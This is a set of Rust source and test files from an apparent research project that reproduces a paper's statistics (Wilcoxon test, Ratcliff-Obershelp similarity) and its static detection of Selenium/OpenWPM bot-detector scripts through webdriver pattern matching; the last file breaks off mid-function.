            PatternDef::substring("jsInstruments"),
            PatternDef::undelimited("webdriver", b"_-"),
        ]);
        assert_eq!(m.rare, Some(b'r'), "set has a required byte for the skip scan");
        proplite::run_cases(60, 0x4A13, |rng| {
            let filler = if rng.bool() { "xyq tuv" } else { "xrq trv" };
            let mut hay = String::new();
            while hay.len() < 6000 {
                match rng.usize_in(0, 6) {
                    0 => hay.push_str("webdriver"),
                    1 => hay.push_str("_webdriver-"),
                    2 => hay.push_str("jsInstruments"),
                    3 => hay.push_str("webdrive"),
                    4 => hay.push_str("jsInstrument"),
                    _ => {
                        let pad = rng.string_of(filler, 1, 40);
                        hay.push_str(&pad);
                    }
                }
            }
            let got = m.scan(&hay);
            let mut want = MatchSet { mask: 0, stats: ScanStats::default() };
            m.scan_segment(hay.as_bytes(), 0, 0, hay.len(), &mut want);
            assert_eq!(got, want, "split-scan strategies must equal the sequential walk");
        });
    }

    /// The skip scan sees matches whose literals only brush the rare-byte
    /// windows: a run's lead-in and merged neighbouring windows.
    #[test]
    fn skip_scan_catches_matches_at_run_boundaries() {
        let m = set(&[PatternDef::substring("webdriver")]);
        // Sparse haystack: filler has no 'r' at all, so every occurrence
        // sits in its own skip-scan run.
        let gap = "xv wq ".repeat(1000);
        let hay = format!("webdriver{gap}webdriver{gap}webdriver");
        let r = m.scan(&hay);
        assert!(r.matched(0));
        assert_eq!(r.stats.candidate_hits, 3);
        assert_eq!(r.stats.confirmed_hits, 3);
        // Two occurrences close enough that their windows merge into one
        // run must still both report.
        let hay = format!("{gap}webdriverwebdriver{gap}");
        let r = m.scan(&hay);
        assert_eq!(r.stats.candidate_hits, 2, "merged-run occurrences each report");
    }
}
