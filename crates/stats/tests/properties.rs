//! Property-based tests for the statistics crate.

use proptest::prelude::*;
use stats::{mean, median, ratcliff_obershelp, wilcoxon_signed_rank};

proptest! {
    /// Similarity is always within [0, 1] and 1 for identical strings.
    #[test]
    fn ratcliff_bounds(a in "[a-z0-9]{0,30}", b in "[a-z0-9]{0,30}") {
        let s = ratcliff_obershelp(&a, &b);
        prop_assert!((0.0..=1.0).contains(&s), "s = {s}");
        prop_assert_eq!(ratcliff_obershelp(&a, &a), 1.0);
    }

    /// Any shared character yields strictly positive similarity.
    #[test]
    fn ratcliff_positive_on_overlap(shared in "[a-z]{1,5}", pad1 in "[0-9]{0,5}", pad2 in "[0-9]{0,5}") {
        let a = format!("{pad1}{shared}");
        let b = format!("{shared}{pad2}");
        prop_assert!(ratcliff_obershelp(&a, &b) > 0.0);
    }

    /// A constant shift in one direction is always detected as significant
    /// for large n.
    #[test]
    fn wilcoxon_detects_shift(base in proptest::collection::vec(0.0f64..100.0, 60..120), shift in 5.0f64..50.0) {
        let shifted: Vec<f64> = base.iter().map(|x| x + shift).collect();
        let r = wilcoxon_signed_rank(&base, &shifted).unwrap();
        prop_assert!(r.significant_at_95(), "p = {}", r.p_value);
        prop_assert_eq!(r.w_plus, 0.0);
    }

    /// p-values stay in [0, 1].
    #[test]
    fn wilcoxon_p_in_range(
        a in proptest::collection::vec(-50.0f64..50.0, 30..60),
        noise in proptest::collection::vec(-3.0f64..3.0, 60)
    ) {
        let b: Vec<f64> = a.iter().zip(&noise).map(|(x, n)| x + n).collect();
        if let Some(r) = wilcoxon_signed_rank(&a, &b) {
            prop_assert!((0.0..=1.0).contains(&r.p_value));
            prop_assert!(r.w_plus >= 0.0 && r.w_minus >= 0.0);
        }
    }

    /// mean and median sit within the sample range.
    #[test]
    fn central_tendency_in_range(xs in proptest::collection::vec(-1e6f64..1e6, 1..50)) {
        let lo = xs.iter().cloned().fold(f64::INFINITY, f64::min);
        let hi = xs.iter().cloned().fold(f64::NEG_INFINITY, f64::max);
        let m = mean(&xs);
        let md = median(&xs);
        prop_assert!(m >= lo - 1e-9 && m <= hi + 1e-9);
        prop_assert!(md >= lo && md <= hi);
    }
}
