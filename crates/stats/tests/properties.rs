//! Property-based tests for the statistics crate.

use proplite::{run_cases, Rng};
use stats::{mean, median, ratcliff_obershelp, wilcoxon_signed_rank};

/// Similarity is always within [0, 1] and 1 for identical strings.
#[test]
fn ratcliff_bounds() {
    run_cases(256, 0x0A7C, |rng: &mut Rng| {
        let a = rng.string_of("abcdefghijklmnopqrstuvwxyz0123456789", 0, 30);
        let b = rng.string_of("abcdefghijklmnopqrstuvwxyz0123456789", 0, 30);
        let s = ratcliff_obershelp(&a, &b);
        assert!((0.0..=1.0).contains(&s), "s = {s}");
        assert_eq!(ratcliff_obershelp(&a, &a), 1.0);
    });
}

/// Any shared character yields strictly positive similarity.
#[test]
fn ratcliff_positive_on_overlap() {
    run_cases(256, 0x0A7D, |rng: &mut Rng| {
        let shared = rng.string_of("abcdefghijklmnopqrstuvwxyz", 1, 5);
        let pad1 = rng.string_of("0123456789", 0, 5);
        let pad2 = rng.string_of("0123456789", 0, 5);
        let a = format!("{pad1}{shared}");
        let b = format!("{shared}{pad2}");
        assert!(ratcliff_obershelp(&a, &b) > 0.0);
    });
}

/// A constant shift in one direction is always detected as significant
/// for large n.
#[test]
fn wilcoxon_detects_shift() {
    run_cases(64, 0x0A7E, |rng: &mut Rng| {
        let base = rng.vec_f64(0.0, 100.0, 60, 119);
        let shift = rng.f64_in(5.0, 50.0);
        let shifted: Vec<f64> = base.iter().map(|x| x + shift).collect();
        let r = wilcoxon_signed_rank(&base, &shifted).unwrap();
        assert!(r.significant_at_95(), "p = {}", r.p_value);
        assert_eq!(r.w_plus, 0.0);
    });
}

/// p-values stay in [0, 1].
#[test]
fn wilcoxon_p_in_range() {
    run_cases(64, 0x0A7F, |rng: &mut Rng| {
        let a = rng.vec_f64(-50.0, 50.0, 30, 59);
        let b: Vec<f64> = a.iter().map(|x| x + rng.f64_in(-3.0, 3.0)).collect();
        if let Some(r) = wilcoxon_signed_rank(&a, &b) {
            assert!((0.0..=1.0).contains(&r.p_value));
            assert!(r.w_plus >= 0.0 && r.w_minus >= 0.0);
        }
    });
}

/// mean and median sit within the sample range.
#[test]
fn central_tendency_in_range() {
    run_cases(256, 0x0A80, |rng: &mut Rng| {
        let xs = rng.vec_f64(-1e6, 1e6, 1, 49);
        let lo = xs.iter().cloned().fold(f64::INFINITY, f64::min);
        let hi = xs.iter().cloned().fold(f64::NEG_INFINITY, f64::max);
        let m = mean(&xs);
        let md = median(&xs);
        assert!(m >= lo - 1e-9 && m <= hi + 1e-9);
        assert!(md >= lo && md <= hi);
    });
}
