//! # stats — statistics for the evaluation
//!
//! Implements, from scratch, exactly the statistical machinery the paper's
//! evaluation uses:
//!
//! * the **Wilcoxon signed-rank test** (normal approximation with tie and
//!   zero-difference handling) — the paper tests per-site paired differences
//!   between WPM and WPM_hide with a 95% confidence level (Sec. 6.3);
//! * the **Ratcliff-Obershelp** similarity — criterion (5) of the tracking-
//!   cookie classifier compares cookie values across runs with it;
//! * small descriptive helpers (mean, median, percentage points) used by the
//!   table renderers.

pub mod descriptive;
pub mod ratcliff;
pub mod wilcoxon;

pub use descriptive::{mean, median, pct_change};
pub use ratcliff::ratcliff_obershelp;
pub use wilcoxon::{wilcoxon_signed_rank, WilcoxonResult};
