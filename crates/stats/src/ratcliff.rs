//! Ratcliff-Obershelp pattern-matching similarity.
//!
//! Criterion (5) of the tracking-cookie classifier (Englehardt et al.,
//! refined by Chen et al.; paper Sec. 6.3.3) requires that a tracking
//! cookie's value "differ significantly based on the Ratcliff-Obershelp
//! algorithm among all runs" — i.e. the values are per-client identifiers,
//! not shared constants. The algorithm recursively finds the longest common
//! substring and sums matches on both sides; similarity is
//! `2*matches / (len_a + len_b)`.

/// Ratcliff-Obershelp similarity in `[0, 1]`.
pub fn ratcliff_obershelp(a: &str, b: &str) -> f64 {
    if a.is_empty() && b.is_empty() {
        return 1.0;
    }
    if a.is_empty() || b.is_empty() {
        return 0.0;
    }
    let a: Vec<char> = a.chars().collect();
    let b: Vec<char> = b.chars().collect();
    let matches = matching_chars(&a, &b);
    2.0 * matches as f64 / (a.len() + b.len()) as f64
}

fn matching_chars(a: &[char], b: &[char]) -> usize {
    if a.is_empty() || b.is_empty() {
        return 0;
    }
    let (ai, bi, len) = longest_common_substring(a, b);
    if len == 0 {
        return 0;
    }
    len + matching_chars(&a[..ai], &b[..bi]) + matching_chars(&a[ai + len..], &b[bi + len..])
}

/// Returns (start_in_a, start_in_b, length) of the longest common substring.
/// Classic O(n·m) dynamic program with a rolling row.
fn longest_common_substring(a: &[char], b: &[char]) -> (usize, usize, usize) {
    let mut best = (0, 0, 0);
    let mut prev = vec![0usize; b.len() + 1];
    for (i, ca) in a.iter().enumerate() {
        let mut row = vec![0usize; b.len() + 1];
        for (j, cb) in b.iter().enumerate() {
            if ca == cb {
                let len = prev[j] + 1;
                row[j + 1] = len;
                if len > best.2 {
                    best = (i + 1 - len, j + 1 - len, len);
                }
            }
        }
        prev = row;
    }
    best
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn identical_strings_are_1() {
        assert_eq!(ratcliff_obershelp("abcdef", "abcdef"), 1.0);
        assert_eq!(ratcliff_obershelp("", ""), 1.0);
    }

    #[test]
    fn disjoint_strings_are_0() {
        assert_eq!(ratcliff_obershelp("aaa", "bbb"), 0.0);
        assert_eq!(ratcliff_obershelp("x", ""), 0.0);
    }

    #[test]
    fn textbook_example() {
        // WIKIMEDIA/WIKIMANIA: anchor "WIKIM" (5) + "IA" (2) = 7 matches,
        // 2*7/18.
        let s = ratcliff_obershelp("WIKIMEDIA", "WIKIMANIA");
        assert!((s - 7.0 * 2.0 / 18.0).abs() < 1e-12, "got {s}");
    }

    #[test]
    fn near_symmetric() {
        // Ratcliff-Obershelp is order-dependent when longest-substring
        // choices are ambiguous (a well-known property, shared by difflib);
        // the classifier only thresholds it, so bounded asymmetry is fine.
        let a = "GESTALT PATTERN MATCHING";
        let b = "GESTALT PRACTICE";
        let ab = ratcliff_obershelp(a, b);
        let ba = ratcliff_obershelp(b, a);
        assert!((ab - ba).abs() < 0.1, "ab={ab} ba={ba}");
    }

    #[test]
    fn random_ids_have_low_similarity() {
        // Two realistic tracking-cookie values: mostly random hex.
        let a = "7f3c9a1be2d84056aa10";
        let b = "0d45e7c2913fb6a8ee42";
        assert!(ratcliff_obershelp(a, b) < 0.66);
    }

    #[test]
    fn shared_prefix_counts() {
        let s = ratcliff_obershelp("sess-AAAA", "sess-BBBB");
        assert!((s - 5.0 * 2.0 / 18.0).abs() < 1e-12);
    }
}
