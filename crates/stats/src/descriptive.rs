//! Small descriptive-statistics helpers used by the table renderers.

/// Arithmetic mean; 0 for an empty slice.
pub fn mean(xs: &[f64]) -> f64 {
    if xs.is_empty() {
        0.0
    } else {
        xs.iter().sum::<f64>() / xs.len() as f64
    }
}

/// Median; 0 for an empty slice.
pub fn median(xs: &[f64]) -> f64 {
    if xs.is_empty() {
        return 0.0;
    }
    let mut v = xs.to_vec();
    v.sort_by(|a, b| a.partial_cmp(b).unwrap());
    let mid = v.len() / 2;
    if v.len().is_multiple_of(2) {
        (v[mid - 1] + v[mid]) / 2.0
    } else {
        v[mid]
    }
}

/// Percentage change from `base` to `new` (the `Diff.` columns of
/// Tables 8–10): `+4.82%` style semantics.
pub fn pct_change(base: f64, new: f64) -> f64 {
    if base == 0.0 {
        if new == 0.0 {
            0.0
        } else {
            f64::INFINITY
        }
    } else {
        (new - base) / base * 100.0
    }
}

/// Format a percentage change the way the paper's tables do (`+4.82%`,
/// `-76.02%`, `0.00%`).
pub fn fmt_pct(change: f64) -> String {
    if change.is_infinite() {
        "+inf%".to_owned()
    } else if change > 0.0 {
        format!("+{change:.2}%")
    } else {
        format!("{change:.2}%")
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn mean_and_median() {
        assert_eq!(mean(&[1.0, 2.0, 3.0]), 2.0);
        assert_eq!(mean(&[]), 0.0);
        assert_eq!(median(&[3.0, 1.0, 2.0]), 2.0);
        assert_eq!(median(&[4.0, 1.0, 2.0, 3.0]), 2.5);
        assert_eq!(median(&[]), 0.0);
    }

    #[test]
    fn pct_change_matches_table_semantics() {
        assert!((pct_change(784.0, 188.0) - -76.02).abs() < 0.01); // Table 8 csp_report
        assert!((pct_change(100.0, 105.0) - 5.0).abs() < 1e-9);
        assert_eq!(pct_change(0.0, 0.0), 0.0);
        assert!(pct_change(0.0, 5.0).is_infinite());
    }

    #[test]
    fn fmt_pct_signs() {
        assert_eq!(fmt_pct(4.824), "+4.82%");
        assert_eq!(fmt_pct(-76.02), "-76.02%");
        assert_eq!(fmt_pct(0.0), "0.00%");
    }
}
