//! Wilcoxon signed-rank test (paired, two-sided), normal approximation.
//!
//! Used for Tables 9 and 10 of the paper: "As the data sets are not normally
//! distributed, we use the Wilcoxon signed-rank test with a confidence
//! interval of 95%." With n = 1,487 paired sites the normal approximation
//! (with tie correction and continuity correction) is the standard choice.

/// Result of a Wilcoxon signed-rank test.
#[derive(Clone, Copy, Debug)]
pub struct WilcoxonResult {
    /// Sum of ranks of positive differences.
    pub w_plus: f64,
    /// Sum of ranks of negative differences.
    pub w_minus: f64,
    /// Number of non-zero paired differences actually ranked.
    pub n_used: usize,
    /// Standard normal test statistic.
    pub z: f64,
    /// Two-sided p-value.
    pub p_value: f64,
}

impl WilcoxonResult {
    /// Significant at the 95% confidence level (the paper's criterion)?
    pub fn significant_at_95(&self) -> bool {
        self.p_value < 0.05
    }
}

/// Two-sided Wilcoxon signed-rank test over paired samples.
///
/// Zero differences are dropped (Wilcoxon's original treatment); tied
/// absolute differences receive mid-ranks and the variance gets the usual
/// tie correction. Returns `None` when fewer than 5 non-zero pairs remain
/// (the approximation would be meaningless).
pub fn wilcoxon_signed_rank(a: &[f64], b: &[f64]) -> Option<WilcoxonResult> {
    assert_eq!(a.len(), b.len(), "paired test requires equal-length samples");
    let mut diffs: Vec<f64> = a
        .iter()
        .zip(b)
        .map(|(x, y)| x - y)
        .filter(|d| *d != 0.0)
        .collect();
    let n = diffs.len();
    if n < 5 {
        return None;
    }
    // Rank by absolute value with mid-ranks for ties.
    diffs.sort_by(|x, y| x.abs().partial_cmp(&y.abs()).unwrap());
    let mut ranks = vec![0.0f64; n];
    let mut tie_correction = 0.0f64;
    let mut i = 0;
    while i < n {
        let mut j = i;
        while j + 1 < n && diffs[j + 1].abs() == diffs[i].abs() {
            j += 1;
        }
        // Mid-rank of positions i..=j (1-based ranks).
        let mid = (i + j) as f64 / 2.0 + 1.0;
        for r in ranks.iter_mut().take(j + 1).skip(i) {
            *r = mid;
        }
        let t = (j - i + 1) as f64;
        if t > 1.0 {
            tie_correction += t * t * t - t;
        }
        i = j + 1;
    }
    let mut w_plus = 0.0;
    let mut w_minus = 0.0;
    for (d, r) in diffs.iter().zip(&ranks) {
        if *d > 0.0 {
            w_plus += r;
        } else {
            w_minus += r;
        }
    }
    let nf = n as f64;
    let mean = nf * (nf + 1.0) / 4.0;
    let var = nf * (nf + 1.0) * (2.0 * nf + 1.0) / 24.0 - tie_correction / 48.0;
    if var <= 0.0 {
        return None;
    }
    let w = w_plus.min(w_minus);
    // Continuity correction of 0.5 toward the mean.
    let z = (w - mean + 0.5) / var.sqrt();
    let p = 2.0 * std_normal_cdf(z);
    Some(WilcoxonResult {
        w_plus,
        w_minus,
        n_used: n,
        z,
        p_value: p.min(1.0),
    })
}

/// Standard normal CDF via the Abramowitz-Stegun erf approximation
/// (max abs error ~1.5e-7 — ample for significance testing).
pub fn std_normal_cdf(z: f64) -> f64 {
    0.5 * (1.0 + erf(z / std::f64::consts::SQRT_2))
}

fn erf(x: f64) -> f64 {
    let sign = if x < 0.0 { -1.0 } else { 1.0 };
    let x = x.abs();
    let t = 1.0 / (1.0 + 0.3275911 * x);
    let y = 1.0
        - (((((1.061405429 * t - 1.453152027) * t) + 1.421413741) * t - 0.284496736) * t
            + 0.254829592)
            * t
            * (-x * x).exp();
    sign * y
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn identical_samples_are_not_significant() {
        let a: Vec<f64> = (0..50).map(|i| i as f64).collect();
        assert!(wilcoxon_signed_rank(&a, &a).is_none(), "all-zero diffs drop below n=5");
    }

    #[test]
    fn clearly_shifted_samples_are_significant() {
        let a: Vec<f64> = (0..100).map(|i| i as f64).collect();
        let b: Vec<f64> = (0..100).map(|i| i as f64 + 10.0).collect();
        let r = wilcoxon_signed_rank(&a, &b).unwrap();
        assert!(r.significant_at_95(), "p={} z={}", r.p_value, r.z);
        assert_eq!(r.w_plus, 0.0); // a < b everywhere
        assert_eq!(r.n_used, 100);
    }

    #[test]
    fn symmetric_noise_is_not_significant() {
        // Alternating ±1 differences: perfectly symmetric.
        let a: Vec<f64> = (0..100).map(|i| i as f64).collect();
        let b: Vec<f64> = (0..100)
            .map(|i| i as f64 + if i % 2 == 0 { 1.0 } else { -1.0 })
            .collect();
        let r = wilcoxon_signed_rank(&a, &b).unwrap();
        assert!(!r.significant_at_95(), "p={}", r.p_value);
    }

    #[test]
    fn small_samples_return_none() {
        assert!(wilcoxon_signed_rank(&[1.0, 2.0], &[2.0, 3.0]).is_none());
    }

    #[test]
    fn tie_handling_mid_ranks() {
        // Many equal absolute differences: must not panic, must rank fairly.
        let a = vec![0.0; 20];
        let b: Vec<f64> = (0..20).map(|i| if i < 15 { 1.0 } else { -1.0 }).collect();
        let r = wilcoxon_signed_rank(&a, &b).unwrap();
        // 15 negative diffs (a-b = -1) vs 5 positive: skewed but with equal
        // mid-ranks; w_minus gets 15 ranks of 10.5 = 157.5.
        assert_eq!(r.w_minus, 157.5);
        assert_eq!(r.w_plus, 52.5);
    }

    #[test]
    fn normal_cdf_sane() {
        assert!((std_normal_cdf(0.0) - 0.5).abs() < 1e-7);
        assert!((std_normal_cdf(-1.96) - 0.025).abs() < 1e-3);
        assert!(std_normal_cdf(-8.0) < 1e-10);
    }
}
