//! Property-based tests for the analysis pipelines.

use detect::static_analysis::{
    analyse, decode_escapes, pattern_matches_with, preprocess, strip_comments, StaticPattern,
};
use detect::{classify_with, MatcherKind};
use proplite::{run_cases, Rng};

/// Hex-encode every character of `s` as `\xNN` escapes.
fn hex_escape(s: &str) -> String {
    s.bytes().map(|b| format!("\\x{b:02x}")).collect()
}

/// Preprocessing never panics on arbitrary input.
#[test]
fn preprocess_total() {
    run_cases(256, 0xDE7E, |rng: &mut Rng| {
        let s = rng.any_string(0, 300);
        let _ = preprocess(&s);
    });
}

/// Comment stripping is idempotent.
#[test]
fn strip_comments_idempotent() {
    run_cases(256, 0xDE7F, |rng: &mut Rng| {
        let s = rng.ascii(0, 200);
        let once = strip_comments(&s);
        let twice = strip_comments(&once);
        assert_eq!(once, twice);
    });
}

/// Escape decoding recovers any ASCII identifier that was fully
/// hex-escaped — the deobfuscation guarantee the static analysis rests on.
#[test]
fn decode_recovers_hex_escaped_identifiers() {
    run_cases(256, 0xDE80, |rng: &mut Rng| {
        let ident =
            rng.string_of("abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ", 1, 20);
        let escaped = hex_escape(&ident);
        assert_eq!(decode_escapes(&escaped), ident);
    });
}

/// A hex-escaped webdriver probe is always found by the full pipeline,
/// regardless of surrounding code.
#[test]
fn hex_escaped_probe_always_found() {
    run_cases(256, 0xDE81, |rng: &mut Rng| {
        let prefix = rng.string_of("abcdefghijklmnopqrstuvwxyz ;=0123456789", 0, 40);
        let suffix = rng.string_of("abcdefghijklmnopqrstuvwxyz ;=0123456789", 0, 40);
        let probe = format!(
            "{prefix}\nvar flag = navigator['{}'];\n{suffix}",
            hex_escape("webdriver")
        );
        assert!(analyse(&probe).selenium);
    });
}

/// Scripts without any probe-related token never classify as detectors.
#[test]
fn clean_scripts_never_flagged() {
    run_cases(256, 0xDE82, |rng: &mut Rng| {
        // Alphabet excludes w/x/y/z so neither 'webdriver' nor any OpenWPM
        // property name can appear.
        let body = rng.string_of("abcdefghijklmnopqrstuv ;=(){}0123456789\n", 0, 300);
        assert!(!analyse(&body).is_detector());
    });
}

/// Comments can never *create* a finding: commenting out an arbitrary
/// line leaves a clean script clean.
#[test]
fn commented_probes_are_ignored() {
    run_cases(256, 0xDE83, |rng: &mut Rng| {
        let pad = rng.string_of("abcdefghijklmnopqrstuvwxyz ;", 0, 50);
        let src = format!("// navigator.webdriver {pad}\nvar x = 1;");
        assert!(!analyse(&src).selenium);
    });
}

/// Build a random script from pattern fragments, near misses, benign
/// filler, strings and comments — the adversarial input space for the
/// naive-vs-automaton differential below.
fn random_script(rng: &mut Rng) -> String {
    const FRAGMENTS: &[&str] = &[
        // Real pattern literals (and delimited variants the anchored
        // undelimited pattern must reject).
        "webdriver",
        "_webdriver",
        "webdriver_",
        "-webdriver-",
        "navigator.webdriver",
        "navigator['webdriver']",
        "navigator[\"webdriver\"]",
        "getInstrumentJS",
        "instrumentFingerprintingApis",
        "jsInstruments",
        // Near misses: prefixes that break off one character early, and
        // overlapping/prefix-sharing fragments.
        "webdrive",
        "webdrivex",
        "wwebdriver",
        "navigator.webdrive",
        "navigator['webdrivex']",
        "getInstrumentJs",
        "instrumentFingerprintingApi",
        "jsInstrument",
        "webweb",
        "navnavigator",
    ];
    let mut src = String::new();
    for _ in 0..rng.usize_in(0, 12) {
        match rng.usize_in(0, 5) {
            // Bare fragment in code position.
            0 => src.push_str(FRAGMENTS[rng.usize_in(0, FRAGMENTS.len())]),
            // Fragment inside a string literal.
            1 => {
                let q = if rng.bool() { '"' } else { '\'' };
                src.push(q);
                src.push_str(FRAGMENTS[rng.usize_in(0, FRAGMENTS.len())]);
                src.push(q);
            }
            // Fragment inside a comment (stripped before matching).
            2 => {
                if rng.bool() {
                    src.push_str("/* ");
                    src.push_str(FRAGMENTS[rng.usize_in(0, FRAGMENTS.len())]);
                    src.push_str(" */");
                } else {
                    src.push_str("// ");
                    src.push_str(FRAGMENTS[rng.usize_in(0, FRAGMENTS.len())]);
                    src.push('\n');
                }
            }
            // Hex-escaped fragment (decoded before matching).
            3 => src.push_str(&hex_escape(FRAGMENTS[rng.usize_in(0, FRAGMENTS.len())])),
            // Benign filler.
            _ => src.push_str(&rng.string_of("abcdefghij ;=(){}\n'\"", 0, 30)),
        }
        src.push_str(if rng.bool() { " " } else { ";" });
    }
    src
}

/// The tentpole differential: on random scripts full of embedded and
/// near-miss pattern fragments in code/string/comment contexts, the naive
/// per-pattern oracle and the compiled automaton agree on every Table 13
/// pattern and on the full production verdict.
#[test]
fn naive_and_automaton_verdicts_agree() {
    run_cases(400, 0xDE84, |rng: &mut Rng| {
        let src = random_script(rng);
        let pre = preprocess(&src);
        for pat in StaticPattern::all() {
            assert_eq!(
                pattern_matches_with(MatcherKind::Naive, *pat, &pre),
                pattern_matches_with(MatcherKind::Automaton, *pat, &pre),
                "engines disagree on {:?} over {pre:?}",
                pat
            );
        }
        assert_eq!(
            classify_with(MatcherKind::Naive, &src),
            classify_with(MatcherKind::Automaton, &src),
            "production verdicts disagree over {src:?}"
        );
    });
}

/// The differential also holds on fully arbitrary ASCII (no fragment
/// structure at all).
#[test]
fn engines_agree_on_arbitrary_ascii() {
    run_cases(400, 0xDE85, |rng: &mut Rng| {
        let src = rng.ascii(0, 200);
        let pre = preprocess(&src);
        for pat in StaticPattern::all() {
            assert_eq!(
                pattern_matches_with(MatcherKind::Naive, *pat, &pre),
                pattern_matches_with(MatcherKind::Automaton, *pat, &pre),
                "engines disagree on {:?} over {pre:?}",
                pat
            );
        }
    });
}

#[test]
fn pipeline_matrix_matches_expected_coverage() {
    // Cross-check the Technique::expected_coverage contract for the static
    // half on every technique.
    for t in detect::Technique::all() {
        let src = detect::corpus::selenium_detector(*t, "https://bd.test/v");
        let (expect_static, _expect_dynamic) = t.expected_coverage();
        assert_eq!(
            analyse(&src).selenium,
            expect_static,
            "static coverage mismatch for {t:?}"
        );
    }
}
