//! # detect — bot-detector corpus and analysis pipelines
//!
//! Three pieces, mirroring Sec. 4 of the paper:
//!
//! * [`corpus`] — MiniJS detector scripts of every class found in the wild
//!   (Selenium/webdriver probes in five obfuscation tiers, OpenWPM-specific
//!   probes, first-party bot management, generic fingerprint iterators,
//!   plus the attack PoCs of Sec. 5);
//! * [`static_analysis`] — escape decoding, comment stripping and the
//!   pattern set of Appx. B / Table 13;
//! * [`dynamic_analysis`] — classification of recorded JavaScript calls
//!   with honey-property iterator filtering (Sec. 4.1.3).

pub mod corpus;
pub mod dynamic_analysis;
pub mod static_analysis;

pub use corpus::Technique;
pub use dynamic_analysis::{observe, DynamicClass, ScriptObservation};
pub use static_analysis::{
    analyse, classify, classify_memo, classify_with, clear_verdict_memo, default_matcher,
    match_preprocessed, pattern_matches, pattern_matches_with, preprocess, set_default_matcher,
    MatcherKind, ScriptVerdict, StaticFinding, StaticPattern,
};
