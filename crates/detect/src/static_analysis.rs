//! Static analysis of collected scripts (paper Sec. 4.1 + Appx. B).
//!
//! Pipeline: preprocess (decode hex/unicode escapes, strip comments) then
//! match the patterns of Table 13. The paper iterated on pattern design to
//! kill false positives — the naive literal `webdriver` matches benign
//! strings, while the context-aware `navigator.webdriver` /
//! `navigator["webdriver"]` forms do not. All evaluated patterns are
//! implemented so Table 13 can be regenerated.
//!
//! Two interchangeable match engines drive the patterns ([`MatcherKind`]):
//!
//! * **Naive** — the paper-literal reference: every pattern runs its own
//!   [`StaticPattern::matches`] pass over the preprocessed source
//!   (O(patterns × bytes) per script).
//! * **Automaton** (default) — all patterns of a set compiled once into a
//!   [`matcher::CompiledMatcher`] (Aho-Corasick trie → failure links →
//!   dense byte-class DFA); each script is scanned in a single pass, with
//!   anchored-pattern guards (the undelimited-`webdriver` neighbour check)
//!   confirmed per candidate hit so verdicts stay byte-for-byte equal to
//!   the naive engine. Two sets are compiled separately: the production
//!   set [`classify_with`] uses and the full Table 13 ablation set behind
//!   [`pattern_matches`].
//!
//! Per-script verdicts are additionally memoised by FNV-64 body hash
//! ([`classify_memo`]): scripts are shared across sites and subpages, so
//! each distinct body is preprocessed and scanned once per process. The
//! `match.*` metrics (scripts, bytes, candidate/confirmed hits, memo
//! hit/miss) are digest-excluded like `cache.*` — worker scheduling moves
//! the memo hit/miss split around, never the verdicts.

use std::collections::HashMap;
use std::sync::atomic::{AtomicU8, Ordering};
use std::sync::{Mutex, OnceLock};

use matcher::{CompiledMatcher, PatternDef};

/// The patterns evaluated in Appx. B (Table 13), in paper order.
#[derive(Clone, Copy, Debug, PartialEq, Eq, Hash)]
pub enum StaticPattern {
    /// Bare literal `webdriver` — false-positive prone.
    WebdriverLiteral,
    /// `instrumentFingerprintingApis`.
    InstrumentFingerprintingApis,
    /// `getInstrumentJS`.
    GetInstrumentJs,
    /// `jsInstruments`.
    JsInstruments,
    /// `webdriver` not adjacent to `_` or `-` — still false-positive prone.
    WebdriverUndelimited,
    /// `navigator.webdriver`.
    NavigatorDotWebdriver,
    /// `navigator["webdriver"]` / `navigator['webdriver']`.
    NavigatorIndexedWebdriver,
}

impl StaticPattern {
    pub fn all() -> &'static [StaticPattern] {
        &[
            StaticPattern::WebdriverLiteral,
            StaticPattern::InstrumentFingerprintingApis,
            StaticPattern::GetInstrumentJs,
            StaticPattern::JsInstruments,
            StaticPattern::WebdriverUndelimited,
            StaticPattern::NavigatorDotWebdriver,
            StaticPattern::NavigatorIndexedWebdriver,
        ]
    }

    pub fn name(&self) -> &'static str {
        match self {
            StaticPattern::WebdriverLiteral => "webdriver",
            StaticPattern::InstrumentFingerprintingApis => "instrumentFingerprintingApis",
            StaticPattern::GetInstrumentJs => "getInstrumentJS",
            StaticPattern::JsInstruments => "jsInstruments",
            StaticPattern::WebdriverUndelimited => "(?<!_|-)webdriver(?!_|-)",
            StaticPattern::NavigatorDotWebdriver => "navigator.webdriver",
            StaticPattern::NavigatorIndexedWebdriver => r#"navigator\[["']webdriver["']\]"#,
        }
    }

    /// Whether the paper found this pattern to produce false positives.
    pub fn fp_prone(&self) -> bool {
        matches!(self, StaticPattern::WebdriverLiteral | StaticPattern::WebdriverUndelimited)
    }

    /// Match against *preprocessed* source.
    pub fn matches(&self, src: &str) -> bool {
        match self {
            StaticPattern::WebdriverLiteral => src.contains("webdriver"),
            StaticPattern::InstrumentFingerprintingApis => {
                src.contains("instrumentFingerprintingApis")
            }
            StaticPattern::GetInstrumentJs => src.contains("getInstrumentJS"),
            StaticPattern::JsInstruments => src.contains("jsInstruments"),
            StaticPattern::WebdriverUndelimited => {
                find_all(src, "webdriver").into_iter().any(|i| {
                    let before = src[..i].chars().next_back();
                    let after = src[i + "webdriver".len()..].chars().next();
                    !matches!(before, Some('_') | Some('-'))
                        && !matches!(after, Some('_') | Some('-'))
                })
            }
            StaticPattern::NavigatorDotWebdriver => src.contains("navigator.webdriver"),
            StaticPattern::NavigatorIndexedWebdriver => {
                src.contains(r#"navigator["webdriver"]"#) || src.contains("navigator['webdriver']")
            }
        }
    }
}

fn find_all(haystack: &str, needle: &str) -> Vec<usize> {
    let mut out = Vec::new();
    let mut start = 0;
    while let Some(i) = haystack[start..].find(needle) {
        out.push(start + i);
        start += i + 1;
    }
    out
}

// --------------------------------------------------------- match engines

/// Which engine drives the static patterns. Both produce byte-identical
/// verdicts (the ablation suites assert it); the automaton is the
/// throughput backend, the naive engine the paper-literal oracle.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum MatcherKind {
    /// Independent per-pattern `contains`-style passes (reference oracle).
    Naive,
    /// One compiled multi-pattern automaton pass per script (default).
    Automaton,
}

/// Process-wide default engine: 0 = undecided, 1 = naive, 2 = automaton.
static MATCHER: AtomicU8 = AtomicU8::new(0);

/// Set the process-wide default match engine, picked up by every
/// subsequent [`classify`]/[`classify_memo`]/[`pattern_matches`] call.
pub fn set_default_matcher(k: MatcherKind) {
    MATCHER.store(
        match k {
